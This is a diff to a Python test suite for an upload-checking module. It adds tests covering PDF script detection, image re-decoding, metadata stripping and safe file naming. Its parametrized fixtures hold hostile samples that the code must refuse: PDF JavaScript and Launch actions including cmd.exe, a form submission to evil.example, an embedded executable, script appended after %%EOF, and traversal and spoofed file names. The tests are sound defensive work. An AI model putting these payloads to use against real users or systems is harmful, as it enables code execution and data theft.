@@ -6,6 +6,7 @@ The test files are assembled here byte by byte, so what each one contains is vis
 from __future__ import annotations
 
 import contextlib
+import io
 import os
 import struct
 import zlib
@@ -14,6 +15,8 @@ from pathlib import Path
 import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
+from pdfs import build_pdf, pypdf_pdf
+from PIL import Image
 
 from todoke.procedures.attachments import (
     ALLOWED,
@@ -21,10 +24,14 @@ from todoke.procedures.attachments import (
     LocalFileStore,
     MalformedFile,
     UploadRejected,
+    check_pdf,
     check_upload,
+    content_disposition,
+    decode_image,
     new_key,
     safe_filename,
     sniff,
+    stored_name,
     strip_metadata,
 )
 
@@ -362,13 +369,34 @@ def test_damaged_real_files_never_crash(original, edits, cut):
 # --- check_upload ---------------------------------------------------------------------------
 
 
+def real_jpeg(comment: bytes = b"") -> bytes:
+    out = io.BytesIO()
+    Image.new("RGB", (16, 8), (0, 128, 255)).save(out, "JPEG", comment=comment)
+    return out.getvalue()
+
+
 def test_check_upload_returns_type_and_cleaned_bytes():
-    assert check_upload(phone_jpeg(orientation=1), max_bytes=10_000) == (
-        "image/jpeg",
-        SOI + APP0 + PICTURE,
-    )
-    assert check_upload(PHONE_PNG, max_bytes=10_000)[0] == "image/png"
-    assert check_upload(PDF, max_bytes=10_000) == ("application/pdf", PDF)
+    photo = real_jpeg(b"Taken at home, Chiyoda 1-9-1")
+    content_type, cleaned = check_upload(photo, max_bytes=10_000)
+    assert content_type == "image/jpeg" and cleaned == strip_metadata(photo, "image/jpeg")
+    assert b"Chiyoda" in photo and b"Chiyoda" not in cleaned
+    content_type, cleaned = check_upload(PHONE_PNG, max_bytes=10_000)
+    assert content_type == "image/png" and b"GPS" not in cleaned
+    assert Image.open(io.BytesIO(cleaned)).getpixel((0, 0)) == 0x80
+    pdf = pypdf_pdf()
+    assert check_upload(pdf, max_bytes=100_000) == ("application/pdf", pdf)
+
+
+def test_a_jpeg_whose_structure_holds_but_that_does_not_decode_is_refused():
+    # Every marker and length holds, but the quantisation table names table 15 (there are
+    # four): the structure walk passes it, only a real decoder refuses it.
+    photo = real_jpeg()
+    table = photo.index(b"\xff\xdb") + 4
+    broken = photo[:table] + b"\x0f" + photo[table + 1 :]
+    assert strip_metadata(broken, "image/jpeg")
+    with pytest.raises(UploadRejected) as refused:
+        check_upload(broken, max_bytes=10_000)
+    assert "画像" in refused.value.ja
 
 
 def test_empty_upload_is_refused():
@@ -509,3 +537,178 @@ def test_new_keys_are_valid_and_distinct():
     assert len(keys) == 100
     for key in keys:
         LocalFileStore(Path("/nonexistent"))._path(key)
+
+
+# --- PDF ------------------------------------------------------------------------------------
+
+
+def refused_pdf(data: bytes) -> UploadRejected:
+    with pytest.raises(UploadRejected) as refused:
+        check_pdf(data)
+    return refused.value
+
+
+def test_ordinary_pdfs_are_accepted():
+    check_pdf(pypdf_pdf())
+    check_pdf(build_pdf())
+    # What office suites write: open at the first page; a link to a web page; a GoTo.
+    check_pdf(build_pdf(b"/OpenAction [3 0 R /XYZ null null 0]"))
+    check_pdf(build_pdf(b"/OpenAction << /S /GoTo /D [3 0 R /Fit] >>"))
+    link = b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://x.jp) >> >>"
+    check_pdf(build_pdf(page_extra=b"/Annots [5 0 R]", objects=(link,)))
+    # The end of line and padding some writers and scanners put after %%EOF.
+    check_pdf(build_pdf(after_eof=b"\r\n\x00\x00  \n"))
+
+
+@pytest.mark.parametrize(
+    ("catalog", "page", "objects"),
+    [
+        (b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>", b"", ()),
+        (b"/OpenAction 5 0 R", b"", (b"<< /S /JavaScript /JS 6 0 R >>", b"(app.alert(1))")),
+        (
+            b"/Names << /JavaScript 5 0 R >>",
+            b"",
+            (b"<< /Names [(a) 6 0 R] >>", b"<< /S /JavaScript /JS (x) >>"),
+        ),
+        (b"/OpenAction << /S /Launch /F (cmd.exe) >>", b"", ()),
+        (b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /JavaScript /JS (x) >> >>", b"", ()),
+        (b"/OpenAction << /S /SubmitForm /F (https://evil.example/) >>", b"", ()),
+        (b"", b"/AA << /O << /S /JavaScript /JS (x) >> >>", ()),
+        (b"/AA << /WC << /S /GoTo /D [3 0 R /Fit] >> >>", b"", ()),
+        (
+            b"/Names << /EmbeddedFiles 5 0 R >>",
+            b"",
+            (
+                b"<< /Names [(a.exe) 6 0 R] >>",
+                b"<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>",
+                b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream",
+            ),
+        ),
+        (b"/AcroForm << /Fields [] /XFA 5 0 R >>", b"", (b"(<xdp/>)",)),
+        # A name spelt with #xx escapes is the same name to a reader.
+        (b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>", b"", ()),
+        # An object nothing refers to is still looked at.
+        (b"", b"", (b"<< /S /JavaScript /JS (app.alert(1)) >>",)),
+    ],
+)
+def test_pdfs_that_can_act_are_refused(catalog, page, objects):
+    refused = refused_pdf(build_pdf(catalog, page, objects))
+    assert "スクリプト" in refused.ja and "script" in refused.en
+
+
+@pytest.mark.parametrize(
+    "data",
+    [
+        build_pdf(after_eof=b"\n<html><script>alert(1)</script></html>\n"),
+        build_pdf(after_eof=b"\nPK\x05\x06" + b"\x00" * 18),  # a ZIP's end record
+        build_pdf(after_eof=b"\n%%EOF junk"),  # the last %%EOF is what counts
+    ],
+)
+def test_bytes_after_the_last_eof_are_refused(data):
+    assert "後に別のデータ" in refused_pdf(data).ja
+
+
+@pytest.mark.parametrize(
+    "data",
+    [
+        b"%PDF-1.7\n<html><script>alert(1)</script></html>\n%%EOF\n",
+        b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n",
+        build_pdf()[:-200] + b"\n%%EOF\n",  # cut off
+        b"%PDF-x.y\n" + build_pdf()[9:],  # not a version
+        build_pdf().replace(b"%%EOF", b"%%EOX"),  # no end at all
+        b"%PDF-1.7\n1 0 obj\n" + b"[" * 100_000 + b"\nendobj\n%%EOF",
+    ],
+)
+def test_files_that_are_not_pdfs_are_refused(data):
+    assert "読み取れません" in refused_pdf(data).ja
+
+
+def test_a_password_protected_pdf_is_refused():
+    from pypdf import PdfReader, PdfWriter
+
+    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pypdf_pdf())))
+    writer.encrypt(user_password="secret", algorithm="RC4-128")
+    out = io.BytesIO()
+    writer.write(out)
+    assert "パスワード" in refused_pdf(out.getvalue()).ja
+
+
+# --- images: a real decoder -----------------------------------------------------------------
+
+
+def test_a_png_is_written_again_from_its_pixels_keeping_palette_transparency():
+    image = Image.new("P", (4, 4), 1)
+    image.putpalette([0, 0, 0, 255, 0, 0] + [0] * 762)
+    out = io.BytesIO()
+    image.save(out, "PNG", transparency=0, dpi=(300, 300))
+    again = Image.open(io.BytesIO(decode_image(out.getvalue() + b"<html>", "image/png")))
+    assert again.mode == "P" and again.info["transparency"] == 0
+    assert round(again.info["dpi"][0]) == 300
+    assert again.tobytes() == bytes([1] * 16)
+
+
+def test_too_many_pixels_are_refused_before_decoding():
+    out = io.BytesIO()
+    Image.new("1", (10_000, 5_001)).save(out, "PNG")  # a few KB for 50 million pixels
+    with pytest.raises(UploadRejected) as refused:
+        decode_image(out.getvalue(), "image/png")
+    assert "画素数" in refused.value.ja
+
+
+# --- names ----------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("given", "content_type", "expected"),
+    [
+        ("x.html", "application/pdf", "x.pdf"),
+        ("invoice.exe", "application/pdf", "invoice.pdf"),
+        ("invoice.pdf.exe", "application/pdf", "invoice.pdf.pdf"),
+        ("scan.pdf", "image/png", "scan.png"),
+        ("IMG_0001.JPEG", "image/jpeg", "IMG_0001.jpg"),
+        ("写真", "image/jpeg", "写真.jpg"),
+        ("../../etc/passwd", "image/png", "passwd.png"),
+        (".htaccess", "application/pdf", "htaccess.pdf"),
+        ("...", "application/pdf", "file.pdf"),
+        ("a..html", "application/pdf", "a.pdf"),
+        ("invoice\u202efdp.exe", "application/pdf", "invoicefdp.pdf"),
+        ("書類" * 150 + ".exe", "application/pdf", "書類" * 48 + ".pdf"),
+    ],
+)
+def test_stored_names_take_the_extension_of_the_content(given, content_type, expected):
+    assert stored_name(given, content_type) == expected
+    assert stored_name(expected, content_type) == expected  # the same name again
+
+
+@pytest.mark.parametrize(
+    ("name", "header"),
+    [
+        ("x.pdf", "attachment; filename=\"x.pdf\"; filename*=UTF-8''x.pdf"),
+        (
+            "住民票 2024.pdf",
+            'attachment; filename="2024.pdf"; '
+            "filename*=UTF-8''%E4%BD%8F%E6%B0%91%E7%A5%A8%202024.pdf",
+        ),
+        ("写真.jpg", "attachment; filename=\"file.jpg\"; filename*=UTF-8''%E5%86%99%E7%9C%9F.jpg"),
+        (
+            "a\\b%41;c.png",
+            "attachment; filename=\"ab41c.png\"; filename*=UTF-8''a%5Cb%2541%3Bc.png",
+        ),
+    ],
+)
+def test_content_disposition_offers_both_names(name, header):
+    assert content_disposition(name) == header
+
+
+@settings(max_examples=200, deadline=None)
+@given(
+    edits=st.lists(st.tuples(st.integers(0, 10_000), st.integers(0, 255)), max_size=6),
+    cut=st.integers(0, 10_000),
+)
+def test_damaged_pdfs_never_crash(edits, cut):
+    damaged = bytearray(build_pdf(b"/OpenAction [3 0 R /Fit]"))
+    for at, value in edits:
+        damaged[at % len(damaged)] = value
+    damaged = bytes(damaged[: max(5, len(damaged) - cut % 200)])
+    with contextlib.suppress(UploadRejected):
+        check_upload(damaged, max_bytes=1_000_000)
